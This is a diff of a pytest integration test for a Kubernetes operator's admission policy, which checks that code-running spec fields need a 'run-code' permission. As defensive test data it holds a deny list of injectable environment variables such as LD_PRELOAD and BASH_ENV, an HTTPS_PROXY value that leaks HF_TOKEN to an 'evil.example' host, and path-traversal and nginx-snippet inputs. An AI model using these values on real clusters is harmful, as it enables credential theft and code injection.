@@ -2,18 +2,21 @@
 
 import subprocess
 import time
-from collections.abc import Iterator
-from pathlib import Path
+from collections.abc import Callable, Iterator
 from typing import Any
 
 import pytest
 import yaml
-from on_cluster import API, PLURAL, sample
 
-from control_plane import Admin, ApiError, ControlPlane, eventually
-from kube_assets import helm
+from llmpipeline.api.admission import places
+from llmpipeline.api.crd import marked_schema
+from llmpipeline.api.safe_variables import SAFE_VARIABLES
+from support.control_plane import Admin, ApiError, ControlPlane, eventually
+from support.control_plane.assets import helm
+from support.control_plane.quickstart import API, PLURAL, sample
+from support.effects.rows import rows
+from support.repository import CHART
 
-CHART = Path(__file__).resolve().parents[2] / "charts" / "llmpipeline-operator"
 PLURALS = {
     "ValidatingAdmissionPolicy": "validatingadmissionpolicies",
     "ValidatingAdmissionPolicyBinding": "validatingadmissionpolicybindings",
@@ -59,22 +62,89 @@ def with_scaling_policy_of_a_node(spec: dict[str, Any]) -> None:
     spec["apps"].append({"name": "mine", "graph": {"nodes": [{"name": "a", "preprocess": {}, "autoscaling": scaling}]}})
 
 
+def with_variable(name: str, value: str | None = "x") -> Callable[[dict[str, Any]], None]:
+    def change(spec: dict[str, Any]) -> None:
+        given = {"secretKeyRef": {"name": "token", "key": "token"}} if value is None else {"value": value}
+        spec["ray"]["environment"] = [{"name": "HF_HUB_OFFLINE", "value": "1"}, {"name": name, **given}]
+
+    return change
+
+
+def with_redis(spec: dict[str, Any]) -> None:
+    spec["head"] = {"faultTolerance": {"redis": {"address": "evil:6379"}}}
+
+
+def with_cache(path: str) -> Callable[[dict[str, Any]], None]:
+    def change(spec: dict[str, Any]) -> None:
+        spec["ray"]["modelCache"] = {"path": path, "claimName": "mine"}
+
+    return change
+
+
+def with_annotation(spec: dict[str, Any]) -> None:
+    spec["network"] = {"ingress": {"annotations": {"nginx.ingress.kubernetes.io/configuration-snippet": "x"}}}
+
+
 def with_another_image(spec: dict[str, Any]) -> None:
     spec["ray"]["image"] = "elsewhere/ray:2.60.0"
 
 
 FORBIDDEN = [
-    (with_custom, "custom code is for users"),
-    (with_node, "custom code is for users"),
-    (with_template, "podTemplate is for users"),
-    (with_account, "ray.serviceAccountName is for users"),
-    (as_root, "ray.podSecurity is for users"),
-    (without_rays_token, "ray.authentication is for users"),
-    (with_engine_argument, "engine.extra is for users"),
-    (with_scaling_policy, "autoscaling.policy is for users"),
-    (with_scaling_policy_of_a_node, "autoscaling.policy is for users"),
-    (with_another_image, "other images in ray.image than llmpipeline/..., other/... are for users"),
+    (with_custom, "custom code needs the verb run-code"),
+    (with_node, "custom code needs the verb run-code"),
+    (with_template, "podTemplate needs the verb run-code"),
+    (with_account, "ray.serviceAccountName needs the verb run-code"),
+    (as_root, "ray.podSecurity needs the verb run-code"),
+    (without_rays_token, "ray.authentication needs the verb run-code"),
+    (with_engine_argument, "engine.extra needs the verb run-code"),
+    (with_scaling_policy, "autoscaling.policy needs the verb run-code"),
+    (with_scaling_policy_of_a_node, "autoscaling.policy needs the verb run-code"),
+    *(
+        (with_variable(name), f"ray.environment ({name}) needs the verb run-code")
+        for name in (
+            "BASH_ENV",
+            "ENV",
+            "SHELLOPTS",
+            "PS4",
+            "LD_PRELOAD",
+            "LD_LIBRARY_PATH",
+            "PYTHONPATH",
+            "PYTHONSTARTUP",
+            "PATH",
+            "RAY_RUNTIME_ENV_HOOK",
+            "NCCL_NET_PLUGIN",
+            "AWS_ENDPOINT_URL",
+            "HF_ENDPOINT",
+            "VLLM_PLUGINS",
+            "VLLM_ALLOW_INSECURE_SERIALIZATION",
+            "SSL_CERT_FILE",
+            "OMP_NUM_THREADS2",
+        )
+    ),
+    (with_variable("HTTPS_PROXY", "http://$(HF_TOKEN).evil.example"), "ray.environment (HTTPS_PROXY) needs"),
+    (with_variable("HTTP_PROXY", None), "ray.environment (HTTP_PROXY) needs"),
+    (with_redis, "head.faultTolerance.redis needs the verb run-code"),
+    (with_cache("/app/lib"), "a ray.modelCache.path outside /models, /cache, /data and /mnt needs the verb run-code"),
+    (with_cache("/models/../app"), "a ray.modelCache.path outside"),
+    (with_cache("/modelsx"), "a ray.modelCache.path outside"),
+    (with_annotation, "network.ingress.annotations needs the verb run-code"),
+    (
+        with_another_image,
+        "a ray.image outside llmpipeline/..., registry.example/... needs the verb run-code",
+    ),
 ]
+
+
+def rows_of_marked_fields() -> list[Any]:
+    """For each marked field of the schema a spec that sets it, out of the table of what changes do."""
+    found = []
+    for way, mark in places(marked_schema()["properties"]["spec"]):
+        if mark["unless"]:  # a value of the table may be one that runs no code; those of FORBIDDEN are not
+            continue
+        field = ".".join(("spec", *way)).replace("[]", "")
+        row = next(row for row in rows() if row.field == field or row.field.startswith(f"{field}."))
+        found.append(pytest.param(row.now, mark["what"], id=field))
+    return found
 
 
 @pytest.fixture(scope="module")
@@ -93,7 +163,7 @@ def user(control_plane: ControlPlane, admin: Admin) -> Iterator[Admin]:
 
 @pytest.fixture(scope="module")
 def policy(admin: Admin) -> Iterator[None]:
-    values = "admissionPolicy.enabled=true,admissionPolicy.images={llmpipeline/,other/}"
+    values = "admissionPolicy.enabled=true,admissionPolicy.images={llmpipeline/,registry.example/}"
     switched_on = ["--kube-version", "1.34.0", "--set", values]
     command = [str(helm()), "template", "op", str(CHART), *switched_on]
     rendered = subprocess.run(command, check=True, capture_output=True, text=True).stdout
@@ -115,6 +185,26 @@ def create(client: Admin, namespace: str, change: Any = None) -> None:
     client.delete(API, PLURAL, namespace, "asked")
 
 
+@pytest.mark.parametrize(("spec", "what"), rows_of_marked_fields())
+def test_every_marked_field_needs_the_verb(
+    user: Admin, admin: Admin, policy: None, namespace: str, spec: dict[str, Any], what: str
+) -> None:
+    """The policy is generated from the marks; here it holds for each of them, wherever the field stands."""
+    document = {**sample(namespace), "metadata": {"name": "asked", "namespace": namespace}, "spec": spec}
+
+    def rejected() -> str:
+        try:
+            user.create(API, PLURAL, document)
+        except ApiError as error:
+            return error.message
+        user.delete(API, PLURAL, namespace, "asked")
+        return ""
+
+    message = eventually(rejected, 10, f"{what} to be rejected")
+    assert f"{what} needs the verb run-code" in message
+    admin.create(API, PLURAL, document)  # the spec is sound: nothing but the verb is missing
+
+
 @pytest.mark.parametrize(("change", "says"), FORBIDDEN)
 def test_who_may_not_run_code(user: Admin, policy: None, namespace: str, change: Any, says: str) -> None:
     def refused() -> str:
@@ -127,6 +217,26 @@ def test_who_may_not_run_code(user: Admin, policy: None, namespace: str, change:
 
     assert says in eventually(refused, 10, "the policy to refuse")
     create(user, namespace)
+
+
+def everything_safe(spec: dict[str, Any]) -> None:
+    spec["ray"]["environment"] = [{"name": name, "value": "1"} for name in SAFE_VARIABLES]
+    spec["ray"]["modelCache"] = {"path": "/models/hub", "claimName": "mine"}
+    spec["ray"] |= {"authentication": "Token", "podSecurity": "Restricted"}
+    spec["network"] = {"ingress": {"host": "a.example"}}
+
+
+def test_what_runs_no_code_is_for_all(user: Admin, policy: None, namespace: str) -> None:
+    eventually(lambda: _is_rejected(user, namespace, with_custom), 10, "the policy to hold")
+    create(user, namespace, everything_safe)
+
+
+def _is_rejected(user: Admin, namespace: str, change: Any) -> bool:
+    try:
+        create(user, namespace, change)
+    except ApiError:
+        return True
+    return False
 
 
 def test_what_leaves_the_spec_as_it_is(user: Admin, admin: Admin, policy: None, namespace: str) -> None:
